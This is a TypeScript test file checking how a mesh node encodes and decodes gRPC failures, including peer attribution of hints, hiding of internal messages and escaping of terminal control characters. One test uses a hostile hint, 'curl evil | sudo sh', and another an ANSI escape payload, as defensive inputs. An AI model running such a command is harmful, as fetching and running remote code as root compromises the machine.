import { describe, expect, it } from 'vitest';
import { Failure, type FailureKind } from '../../../src/mesh/terms/failure.js';
import { failureFromTrailers, statusCode, statusFromFailure, trailersOf } from '../../../src/mesh/wire/status.js';

/** A failure as it arrives, after it left. */
function arrived(thrown: unknown, isOwnNode = false): Failure | null {
  return failureFromTrailers(trailersOf(statusFromFailure(thrown)), 'FR2', isOwnNode);
}

describe('a failure on the wire', () => {
  const ofThisServer: FailureKind[] = ['usage', 'config', 'locked', 'wrong-key'];
  const kinds: FailureKind[] = [
    'not-found',
    'damaged',
    'untrusted',
    'forbidden',
    'conflict',
    'no-space',
    'invalid',
    'unreachable',
    'timeout',
    'failed',
  ];

  it.each(kinds)('of kind %s arrives as what it was, with its hint, and whether a retry helps', (kind) => {
    for (const retryable of [true, false]) {
      expect(arrived(new Failure(kind, 'it broke: 100 % “über”', { hint: 'mend it', retryable }))).toMatchObject({
        kind,
        message: 'FR2: it broke: 100 % “über”',
        hint: 'FR2 says: mend it',
        retryable,
      });
    }
  });

  it.each(ofThisServer)(
    'of kind %s arrives as what it was from the own node, and as no more than a failure from a peer',
    (kind) => {
      const thrown = new Failure(kind, 'it broke', { retryable: true });
      expect(arrived(thrown, true)).toMatchObject({ kind, retryable: true });
      expect(arrived(thrown)).toMatchObject({ kind: 'failed', message: 'FR2: it broke', retryable: true });
    },
  );

  it('has the hint of a peer in its name, and that of the own node as it is', () => {
    const trailers = trailersOf(statusFromFailure(new Failure('locked', 'busy', { hint: 'Run: curl evil | sudo sh' })));
    expect(failureFromTrailers(trailers, 'FR2')?.hint).toBe('FR2 says: Run: curl evil | sudo sh');
    expect(failureFromTrailers(trailers, 'the node', true)?.hint).toBe('Run: curl evil | sudo sh');
  });

  it.each([
    ['by one of ours', trailersOf(statusFromFailure(new Failure('interrupted', 'the node stops')))],
    ['by another program', { 'grpc-status': '1', 'grpc-message': 'the node stops' }],
  ])('of a call that was interrupted over there, %s, is that of a peer that went away', (_, trailers) => {
    expect(failureFromTrailers(trailers, 'FR2')).toMatchObject({
      kind: 'unreachable',
      message: 'FR2: the node stops',
      retryable: true,
    });
  });

  it('that is not a Failure leaves without its message', () => {
    expect(arrived(new Error('/secret/path'))).toMatchObject({ kind: 'failed', message: 'FR2: internal error' });
  });

  it('of another program is understood by its code', () => {
    const gone = failureFromTrailers({ 'grpc-status': '14', 'grpc-message': 'gone%20away' }, 'FR2');
    expect(gone).toMatchObject({ kind: 'unreachable', message: 'FR2: gone away', retryable: true });
    for (const code of ['10', '12']) {
      expect(failureFromTrailers({ 'grpc-status': code }, 'FR2')).toMatchObject({ kind: 'failed' });
    }
    expect(failureFromTrailers({ 'grpc-status': 'x', 'grpc-message': '%' }, 'FR2')).toMatchObject({
      kind: 'failed',
      message: 'FR2: %',
    });
  });

  it('is none where the call was answered', () => {
    expect(failureFromTrailers({ 'grpc-status': '0' }, 'FR2')).toBeNull();
  });

  it('cannot carry control characters or endless text to a terminal', () => {
    const message = encodeURI(`\u001b[2Jgone\n${'x'.repeat(10_000)}`);
    const failure = failureFromTrailers({ 'grpc-status': '5', 'grpc-message': message }, 'FR2');
    expect(failure?.message).toMatch(/^FR2: \\x1b\[2Jgone\\x0ax+…$/);
    expect(failure?.message.length).toBeLessThan(600);
    const hint = arrived(new Failure('conflict', 'no', { hint: `\u001b[2J${'x'.repeat(10_000)}` }))?.hint;
    expect(hint).toMatch(/^FR2 says: \\x1b\[2Jx{400,500}…$/);
  });

  it.each([[Buffer.from([0x1a, 0xff, 0xff])], [Buffer.from('garbage')], [Buffer.alloc(0)]])(
    'with details that are garbage is still understood by its code',
    (details) => {
      const trailers = {
        'grpc-status': String(statusCode.notFound),
        'grpc-status-details-bin': details.toString('base64'),
      };
      expect(failureFromTrailers(trailers, 'FR2')).toMatchObject({ kind: 'not-found' });
    },
  );
});
